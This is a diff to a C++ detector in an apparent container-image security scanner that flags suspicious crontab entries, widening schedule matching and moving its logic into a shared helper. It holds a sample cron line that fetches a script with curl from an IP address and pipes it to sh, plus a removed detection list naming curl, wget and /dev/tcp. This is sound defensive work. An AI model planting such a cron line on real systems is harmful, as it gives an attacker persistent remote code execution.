@@ -5,12 +5,10 @@
 // raises an entry whose command another detector has something against: a fetch, a decoded text, a reverse shell.
 #include <algorithm>
 #include <array>
-#include <map>
-#include <vector>
 
 #include "detect/assess.hpp"
 #include "detect/detector.hpp"
-#include "detect/start_files.hpp"
+#include "detect/start_entries.hpp"
 
 namespace hullcheck::detect {
 namespace {
@@ -24,7 +22,8 @@ constexpr std::array<RuleRow, 1> k_rows{{
 }};
 
 bool is_crontab(StartFileKind kind) {
-  return kind == StartFileKind::system_crontab || kind == StartFileKind::user_crontab;
+  return kind == StartFileKind::system_crontab || kind == StartFileKind::user_crontab ||
+         kind == StartFileKind::anacrontab;
 }
 
 bool is_every_minute(std::string_view when) {
@@ -34,15 +33,9 @@ bool is_every_minute(std::string_view when) {
       fields += c;
     else if (c == '\t' && !fields.ends_with(' '))
       fields += ' ';
-  return fields == "* * * * *" || fields == "*/1 * * * *";
-}
-
-// What ordinary jobs seldom name.
-bool is_odd_command(std::string_view command) {
-  static constexpr std::array<std::string_view, 9> k_signs = {
-      "://", "/tmp/", "/dev/shm/", "/var/tmp/", "/dev/tcp/", "base64 ", "curl ", "wget ", "/."};
-  return std::any_of(k_signs.begin(), k_signs.end(),
-                     [&](std::string_view sign) { return command.find(sign) != std::string_view::npos; });
+  // Also "*/2", "0-59", and the word for it that some crons know.
+  return fields == "* * * * *" || fields == "*/1 * * * *" || fields == "*/2 * * * *" || fields == "0-59 * * * *" ||
+         fields == "@minutely" || fields == "0-59/1 * * * *";
 }
 
 std::string_view line_at(std::string_view text, std::uint32_t number) {
@@ -92,54 +85,13 @@ class CronEntry final : public Detector {
   }
 
   void image(const ImageContext& context, ImageEvidence& out) const override {
-    const auto against = evidence_by_file(context);
-    for (const PlacedEvidence& entry : context.evidence) {
-      if (entry.evidence.rule != k_rows[0].id) continue;
-      const auto others = against.find({entry.path, entry.file});
-      if (others == against.end()) continue;
-      const std::string rules = rules_of(others->second, entry.evidence.line);
-      if (rules.empty()) continue;
-      PlacedEvidence raised = entry;
-      raised.evidence.cls = k_rows[0].cls;
-      raised.evidence.text += " (see " + rules + ")";
-      out.add(std::move(raised));
-    }
-  }
-
- private:
-  using ByFile = std::map<std::pair<std::string_view, layers::FileRef>, std::vector<const Evidence*>>;
-
-  // What has weight about crontabs, and what they run.
-  static ByFile evidence_by_file(const ImageContext& context) {
-    ByFile by_file;
-    for (const PlacedEvidence& placed : context.evidence)
-      if (placed.evidence.rule == k_rows[0].id) by_file[{placed.path, placed.file}];
-    for (const PlacedEvidence& placed : context.evidence) {
-      const char letter = family(placed.evidence.rule);
-      const bool counts = (letter == 'D' || letter == 'B' || letter == 'H' || letter == 'M') &&
-                          placed.evidence.cls <= EvidenceClass::strong;
-      if (!counts) continue;
-      if (const auto file = by_file.find({placed.path, placed.file}); file != by_file.end())
-        file->second.push_back(&placed.evidence);
-    }
-    return by_file;
-  }
-
-  // Those about the same line, or about the whole of a file whose lines are not told apart.
-  static std::string rules_of(const std::vector<const Evidence*>& others, std::uint32_t line) {
-    std::string rules;
-    for (const Evidence* other : others) {
-      if (other->line != 0 && other->line != line) continue;
-      if (rules.find(other->rule) != std::string::npos) continue;
-      rules += (rules.empty() ? "" : ", ") + other->rule;
-    }
-    return rules;
+    raise_entries(context, k_rows[0], out);
   }
 };
 
 const util::Registered<CronEntry> registered{{
     .id = "cron-entry",
-    .version = 1,
+    .version = 2,
     .summary = "entries of crontabs, and those whose command is suspect",
     .example = "* * * * * root curl -s http://192.0.2.1/x | sh",
     .rules = k_rows,
